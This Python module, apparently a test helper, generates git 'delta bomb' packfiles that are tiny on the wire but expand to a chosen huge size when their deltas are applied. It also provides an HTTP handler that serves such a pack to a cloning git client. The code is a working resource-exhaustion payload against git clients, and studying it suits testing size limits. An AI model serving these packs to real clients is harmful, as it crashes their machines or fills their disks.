"""Owns git packs that are small on the wire and huge when their deltas are applied, and a server that sends them."""

import hashlib
import struct
import zlib
from collections.abc import Callable
from dataclasses import dataclass
from http.server import BaseHTTPRequestHandler

_TYPES = {"commit": 1, "tree": 2, "blob": 3, "ref_delta": 7}
_STEP = 0x10000
"""What one byte of a delta copies: the size that needs no further bytes to be told."""


@dataclass(frozen=True)
class Bomb:
    """A pack and the one commit in it."""

    pack: bytes
    commit: str


def delta_bomb(expanded_bytes: int, files: int = 1, *, true_names: bool = True) -> Bomb:
    """A commit of files that are each a delta of the same 64 KiB, repeated until they have so many bytes.

    With true names nothing but their size speaks against them; making those takes as long as reading them.
    """
    base = bytes(_STEP)
    objects = [_packed("blob", base)]
    base_name = bytes.fromhex(_name("blob", [base]))
    entries = b""
    for number in range(files):
        # Each file is a step longer than the one before, so that no two are the same object.
        steps = expanded_bytes // _STEP + number
        delta = _number(_STEP) + _number(_STEP * steps) + bytes([0x80]) * steps
        objects.append(_head("ref_delta", len(delta)) + base_name + zlib.compress(delta, 9))
        name = bytes.fromhex(_name("blob", [base] * steps)) if true_names else bytes([number % 256]) * 20
        entries += f"100644 bomb{number:04d}".encode() + b"\0" + name
    objects.append(_packed("tree", entries))
    who = b"E <e@example.org> 1700000000 +0000"
    tree = _name("tree", [entries]).encode()
    commit = b"tree " + tree + b"\nauthor " + who + b"\ncommitter " + who + b"\n\nBoom\n"
    objects.append(_packed("commit", commit))
    body = b"PACK" + struct.pack(">II", 2, len(objects)) + b"".join(objects)
    return Bomb(body + hashlib.sha1(body, usedforsecurity=False).digest(), _name("commit", [commit]))


def sending(bomb: Bomb) -> Callable[[BaseHTTPRequestHandler], bool]:
    """What a git server is told to answer with: its references, and then the pack."""

    def answer(handler: BaseHTTPRequestHandler) -> bool:
        if handler.command == "GET":
            kind = "application/x-git-upload-pack-advertisement"
            told = _line(b"# service=git-upload-pack\n") + b"0000"
            told += _line(f"{bomb.commit} HEAD\0symref=HEAD:refs/heads/main\n".encode())
            told += _line(f"{bomb.commit} refs/heads/main\n".encode()) + b"0000"
        else:
            kind, told = "application/x-git-upload-pack-result", _line(b"NAK\n") + bomb.pack
        handler.send_response(200)
        handler.send_header("Content-Type", kind)
        handler.send_header("Content-Length", str(len(told)))
        handler.end_headers()
        handler.wfile.write(told)
        return True

    return answer


def _line(text: bytes) -> bytes:
    return f"{len(text) + 4:04x}".encode() + text


def _packed(kind: str, content: bytes) -> bytes:
    return _head(kind, len(content)) + zlib.compress(content, 9)


def _head(kind: str, size: int) -> bytes:
    first, rest = (_TYPES[kind] << 4) | (size & 15), size >> 4
    found = bytearray()
    while rest:
        found.append(first | 0x80)
        first, rest = rest & 0x7F, rest >> 7
    return bytes((*found, first))


def _number(value: int) -> bytes:
    found = bytearray()
    while value > 0x7F:
        found.append((value & 0x7F) | 0x80)
        value >>= 7
    return bytes((*found, value))


def _name(kind: str, pieces: list[bytes]) -> str:
    digest = hashlib.sha1(f"{kind} {sum(map(len, pieces))}\0".encode(), usedforsecurity=False)
    for piece in pieces:
        digest.update(piece)
    return digest.hexdigest()
